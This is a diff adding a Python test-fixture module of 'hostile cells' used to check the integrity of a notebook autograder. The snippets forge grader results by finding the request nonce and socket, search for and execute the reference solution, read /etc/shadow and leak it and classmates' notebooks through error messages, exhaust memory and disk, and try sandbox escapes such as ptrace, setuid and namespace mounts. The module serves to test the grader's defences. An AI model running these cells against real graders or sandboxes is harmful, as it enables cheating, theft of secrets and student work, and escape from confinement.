@@ -1,0 +1,253 @@
+"""Hostile cells for the integrity tests, each written as a student would write the attack.
+
+Every source here replaces one graded cell of the solution notebook. They are data, never run by
+the test process itself.
+"""
+from __future__ import annotations
+
+
+def named(template: str, name: str) -> str:
+    """An attack on one model class: the template with the class's name filled in."""
+    return template.replace("CLASSNAME", name)
+
+# Find the probe's request (nonce, parameters) and the job's socket from inside a method the probe
+# calls, then answer in the grader's own wire format with values that cost nothing to make.
+FIND_REQUEST = '''
+import sys, os, json, struct, base64
+
+def _request():
+    f = sys._getframe()
+    while f is not None:
+        r = f.f_locals.get("request")
+        if isinstance(r, dict) and "nonce" in r:
+            return r, f.f_locals["sock"]
+        f = f.f_back
+    raise RuntimeError("no request found")
+
+def _tensor(shape, value=0.0):
+    n = 1
+    for s in shape:
+        n *= s
+    return {"__tensor__": "float64", "shape": list(shape),
+            "data": base64.b64encode(struct.pack(f"<{n}d", *([value] * n))).decode()}
+
+def _answer(request, sock, data):
+    body = json.dumps({"type": "result", "nonce": request["nonce"], "data": data}).encode()
+    os.write(sock.fileno(), struct.pack("!Q", len(body)) + body)
+    os._exit(0)
+'''
+
+FORGED_MODEL = FIND_REQUEST + '''
+class CLASSNAME:
+    def __init__(self, d_in, d_out):
+        request, sock = _request()
+        runs = {}
+        for label, p in request["params"]["runs"].items():
+            k = p["sample_k"]
+            runs[label] = {"module": True, "linear": [[a, b, True] for a, b in p["linear"]],
+                           "init": [[_tensor([k], 0.01), _tensor([k], 0.01)] for _ in p["linear"]],
+                           "out_type": "Tensor", "copied": "shape",
+                           "outputs": {str(s): _tensor([p["batch"], d_out], 0.1) for s in p["seeds"]},
+                           "with_weights": _tensor([p["batch"], d_out], 0.1)}
+        _answer(request, sock, {"defined": True, "runs": runs})
+'''
+
+FORGED_TRAINING = FIND_REQUEST + '''
+def train_and_test(model, hyperparameters):
+    request, sock = _request()
+    runs = {}
+    for label, p in request["params"]["runs"].items():
+        batches = -(-p["n_train"] // p["batch_size"])
+        series = [[0.01 * (i + 1)] * batches for i in range(3)]
+        events = [{"kind": "optimizer", "type": "SGD", "params": "model",
+                   "defaults": {"lr": p["lr"], "momentum": p["momentum"], "dampening": 0.0,
+                                "weight_decay": 0.0, "nesterov": False}}]
+        for e in range(p["epochs"]):
+            events.append({"kind": "train", "model": "model", "loader": "train", "optimizer": 0,
+                           "epoch": e, "series": series})
+            events.append({"kind": "test", "model": "model", "loader": "test",
+                           "printed": "Test set: Average loss: 2.3026, Accuracy: 4/32 (12.50%)"})
+        dims = p["layers"]
+        final = {}
+        for i in range(len(dims) - 1):
+            final[f"{2 * i + 1}.weight"] = _tensor([dims[i + 1], dims[i]], 0.0)
+            final[f"{2 * i + 1}.bias"] = _tensor([dims[i + 1]], 0.0)
+        runs[label] = {"events": events, "lines": series * p["epochs"], "final": final}
+    _answer(request, sock, {"defined": True, "runs": runs})
+'''
+
+# The attack as first reproduced: look for the grader's probe and helper functions in the process.
+PROBES_IN_PROCESS = '''
+import importlib
+found = []
+for name in ("grader.probes", "grader.checks", "grader.checks.models", "grader.pipeline", "grader.runner"):
+    try:
+        importlib.import_module(name)
+        found.append(name)
+    except Exception:
+        pass
+if found:
+    raise RuntimeError("grader modules importable: " + ",".join(found))
+
+class CLASSNAME:
+    pass
+'''
+
+# Read the reference solution (or the answer key) wherever the checkout is, and run it.
+READ_REFERENCE = '''
+import os
+hits = []
+for top in ("/", "/work", "/root", "/home", "/srv", "/opt", "/tmp", "/job"):
+    for dirpath, dirs, files in os.walk(top):
+        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")):
+            dirs[:] = []
+            continue
+        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "lib-dynload")]
+        for f in files:
+            if f in ("reference.py", "answer_key.toml", "hidden.toml") or dirpath.endswith(".git/objects"):
+                hits.append(os.path.join(dirpath, f))
+ref = [h for h in hits if h.endswith("reference.py")]
+if ref:
+    exec(open(ref[0]).read())
+else:
+    raise FileNotFoundError("found: " + ";".join(hits[:20]))
+'''
+
+# Publish secrets through the student's own feedback: error text of a failing cell.
+EXFILTRATE = '''
+import os, glob
+loot = []
+for path in ["/etc/shadow", {key!r}, {hidden!r}, {old_report!r}]:
+    try:
+        loot.append(open(path).read())
+    except Exception as exc:
+        loot.append(type(exc).__name__)
+for d in ("/root", "/home", "/work"):
+    try:
+        loot.append(" ".join(os.listdir(d)))
+    except Exception as exc:
+        loot.append(type(exc).__name__)
+raise ValueError(" | ".join(loot))
+'''
+
+# Values derived from hidden parameters, sent back through error messages of the probe's calls.
+HIDDEN_VALUES_MODEL = '''
+class CLASSNAME(nn.Module):
+    def __init__(self, d_in, d_out):
+        super().__init__()
+        self.l = nn.Linear(d_in, d_out)
+
+    def forward(self, x):
+        raise ValueError(f"LEAK batch={x.shape[0]} seed={torch.initial_seed()} first={float(x.flatten()[0]):.6f}")
+'''
+HIDDEN_VALUES_TRAINING = '''
+def train_and_test(model, hyperparameters):
+    for epoch in range(hyperparameters["epochs"]):
+        train(model, train_loader, optim.SGD(model.parameters(), lr=0.5), epoch)
+    raise ValueError("LEAK " + " ".join(f"{k}={v}" for k, v in hyperparameters.items()))
+'''
+
+# One malformed frame on the job's socket, then business as usual.
+MALFORMED_FRAME = '''
+import os, socket, stat
+for fd in range(3, 64):
+    try:
+        if stat.S_ISSOCK(os.fstat(fd).st_mode):
+            os.write(fd, b"\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x05{bad")
+    except OSError:
+        pass
+'''
+OUT_OF_ORDER = '''
+import os, json, struct, stat
+for fd in range(3, 64):
+    try:
+        if stat.S_ISSOCK(os.fstat(fd).st_mode):
+            body = json.dumps({"type": "result", "nonce": "0", "data": {"defined": True}}).encode()
+            os.write(fd, struct.pack("!Q", len(body)) + body)
+    except OSError:
+        pass
+'''
+HUGE_REPLY = FIND_REQUEST + '''
+class CLASSNAME:
+    def __init__(self, d_in, d_out):
+        request, sock = _request()
+        body = b"[" + b"0," * (32 * 2**20) + b"0]"
+        os.write(sock.fileno(), struct.pack("!Q", len(body)))
+        sock.sendall(body)
+        os._exit(0)
+'''
+DEEP_REPLY = FIND_REQUEST + '''
+class CLASSNAME:
+    def __init__(self, d_in, d_out):
+        request, sock = _request()
+        body = b"[" * 100000 + b"]" * 100000
+        os.write(sock.fileno(), struct.pack("!Q", len(body)) + body)
+        os._exit(0)
+'''
+
+# Resources that a per-process memory count misses.
+MEMFD = '''
+import os
+chunk = b"x" * (32 * 2**20)
+hoard = []
+for _ in range({chunks}):          # many files, each under the per-file size limit
+    fd = os.memfd_create("hoard")
+    os.write(fd, chunk)
+    hoard.append(fd)
+'''
+DISK = '''
+chunk = b"x" * (64 * 2**20)
+for i in range(40):
+    with open(f"blob{i}.bin", "wb") as fh:
+        fh.write(chunk)
+'''
+
+# Something of the cell keeps running beside the probe, to change what it observes.
+THREAD_LEFT = '''
+import threading, time
+def meddle():
+    while True:
+        time.sleep(0.001)
+threading.Thread(target=meddle, daemon=True).start()
+'''
+TRACE_LEFT = '''
+import sys
+def tracer(frame, event, arg):
+    return tracer
+sys.settrace(tracer)
+'''
+
+# Classmates' work through the Moodle zip, wherever it is.
+READ_ZIP = '''
+import os, zipfile
+loot = []
+for top in ("/", "/tmp", "/root", "/work", "/home", "/job"):
+    for dirpath, dirs, files in os.walk(top):
+        if dirpath.startswith(("/proc", "/sys", "/usr")):
+            dirs[:] = []
+            continue
+        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "lib-dynload")]
+        for f in files:
+            p = os.path.join(dirpath, f)
+            if f.endswith(".zip"):
+                with zipfile.ZipFile(p) as z:
+                    loot += [z.read(n).decode(errors="ignore")[-3000:] for n in z.namelist() if n.endswith(".ipynb")]
+            elif f.endswith(".ipynb"):
+                loot.append(open(p, errors="ignore").read()[-3000:])
+raise ValueError("LOOT " + " ".join(loot)[:5000])
+'''
+
+# Ways out of the sandbox: the worker, the machine, the network, the next job.
+ESCAPES = {
+    "kill-worker": "import os, signal\nos.kill(1, signal.SIGKILL)\nos.kill(os.getppid(), signal.SIGKILL)",
+    "worker-memory": "print(open('/proc/1/environ').read())\nprint(open('/proc/1/maps').read())",
+    "ptrace": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+              "assert libc.ptrace(16, 1, 0, 0) == 0, ctypes.get_errno()",
+    "become-root": "import os\nos.setuid(0)",
+    "new-user-namespace": "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+                          "assert libc.unshare(0x10000000 | 0x00020000) == 0, ctypes.get_errno()\n"
+                          "assert libc.mount(b'none', b'/', None, 32 | 4096, None) == 0, ctypes.get_errno()",
+    "write-data": "import os\nopen(os.path.join({data!r}, 'poison'), 'w').write('x')",
+    "network": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=3)",
+    "linger": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(60)\n    os._exit(0)",
+}
